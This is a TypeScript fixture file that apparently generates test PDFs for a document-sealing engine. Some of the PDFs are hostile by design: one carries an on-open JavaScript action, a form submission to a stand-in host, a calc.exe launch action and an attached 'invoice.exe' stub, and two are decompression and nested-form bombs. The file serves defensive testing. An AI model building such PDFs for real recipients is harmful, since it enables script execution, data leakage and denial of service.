import { deflateSync } from 'node:zlib'
import { degrees, PDFDocument, PDFName, PDFRawStream, PDFString, StandardFonts } from '@cantoo/pdf-lib'
import { sealPdf } from '../engine.ts'
import { certificatesOf, makeSealKey } from '../seal/seal-key.ts'

/** A PDF of some pages, with words on the first. */
export async function plainPdf(pages = 1, words = 'Signature: ____________________'): Promise<Buffer> {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.Helvetica)
  for (let page = 0; page < pages; page += 1) {
    document.addPage([600, 800]).drawText(words, { x: 50, y: 700, size: 11, font })
  }
  return Buffer.from(await document.save())
}

/** One that asks for a password, or only says what may not be done with it. */
export async function lockedPdf(userPassword: string): Promise<Buffer> {
  const document = await PDFDocument.load(await plainPdf())
  document.encrypt({ userPassword, ownerPassword: 'harbour', permissions: { modifying: false } })
  return Buffer.from(await document.save({ useObjectStreams: false }))
}

/** One that wants to run a script when it is opened, on a page, and behind a button. */
export async function actingPdf(): Promise<Buffer> {
  const document = await PDFDocument.load(await plainPdf())
  const script = (words: string) =>
    document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(words) })
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(script('app.alert(1)')))
  const page = document.getPage(0)
  page.node.set(PDFName.of('AA'), document.context.obj({ O: script('this.submitForm("https://x.example")') }))
  const launch = document.context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe') })
  const link = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], A: document.context.register(launch) }
  page.node.set(
    PDFName.of('Annots'),
    document.context.obj([document.context.register(document.context.obj(link))]),
  )
  await document.attach(Buffer.from('MZ'), 'invoice.exe', { mimeType: 'application/x-msdownload' })
  return Buffer.from(await document.save({ useObjectStreams: false }))
}

/** One whose page is cut and turned, with these words on what is seen of it. */
export async function turnedPdf(angle: number, words = ''): Promise<Buffer> {
  const document = await PDFDocument.create()
  const page = document.addPage([700, 900])
  page.setCropBox(100, 80, 500, 700)
  if (words) page.drawText(words, { x: 150, y: 600, size: 12 })
  page.setRotation(degrees(angle))
  return Buffer.from(await document.save())
}

/** A form as ministries write them: fields, dotted runs, lines with words below, boxes to cross. */
export async function formPdf(): Promise<Buffer> {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.Helvetica)
  const page = document.addPage([600, 800])
  const say = (words: string, x: number, y: number, size = 10) => page.drawText(words, { x, y, size, font })
  say('Signature: ____________________   Date: __________', 50, 700, 11)
  page.drawLine({ start: { x: 60, y: 600 }, end: { x: 260, y: 600 } })
  say('Allekirjoitus', 60, 588, 9)
  page.drawLine({ start: { x: 300, y: 600 }, end: { x: 500, y: 600 } })
  say('Ort och datum', 300, 588, 9)
  page.drawRectangle({ x: 50, y: 500, width: 12, height: 12, borderWidth: 1 })
  say('I accept the terms', 68, 502)
  page.drawRectangle({ x: 50, y: 400, width: 200, height: 20, borderWidth: 1 })
  say('A cell of a table', 60, 408, 9)
  say('E-post ........................', 60, 308, 9)
  document
    .getForm()
    .createTextField('client.fullName')
    .addToPage(page, { x: 50, y: 200, width: 200, height: 20 })
  return Buffer.from(await document.save())
}

/** One that somebody signed already. */
export async function signedPdf(): Promise<Buffer> {
  const { key, certificates } = await makeSealKey('Notary')
  const by = { key, certificates: certificatesOf(certificates), reason: 'Signed', at: new Date() }
  return Buffer.from(await sealPdf(await plainPdf(), by))
}

/** A small one whose page unpacks to 300 MB of spaces, packed twice. */
export async function packedPdf(): Promise<Buffer> {
  const document = await PDFDocument.load(await plainPdf())
  const filters = { Filter: ['FlateDecode', 'FlateDecode'] }
  const content = deflateSync(deflateSync(Buffer.alloc(300_000_000, ' '), { level: 1 }))
  const stream = PDFRawStream.of(document.context.obj(filters), content)
  document.getPage(0).node.set(PDFName.of('Contents'), document.context.register(stream))

  return Buffer.from(await document.save())
}

/** A small one whose page draws a form that draws ten forms, nine deep. */
export async function nestedPdf(): Promise<Buffer> {
  const document = await PDFDocument.load(await plainPdf())
  const { context } = document
  const box = [0, 0, 100, 100]
  let inner = context.register(context.stream('', { Type: 'XObject', Subtype: 'Form', BBox: box }))
  for (let depth = 0; depth < 9; depth++) {
    const resources = { XObject: { F: inner } }
    const look = { Type: 'XObject', Subtype: 'Form', BBox: box, Resources: resources }
    inner = context.register(context.stream('/F Do '.repeat(10), look))
  }
  const page = document.getPage(0)
  page.node.set(PDFName.of('Resources'), context.obj({ XObject: { F: inner } }))
  page.node.set(PDFName.of('Contents'), context.register(context.stream('/F Do')))
  return Buffer.from(await document.save())
}
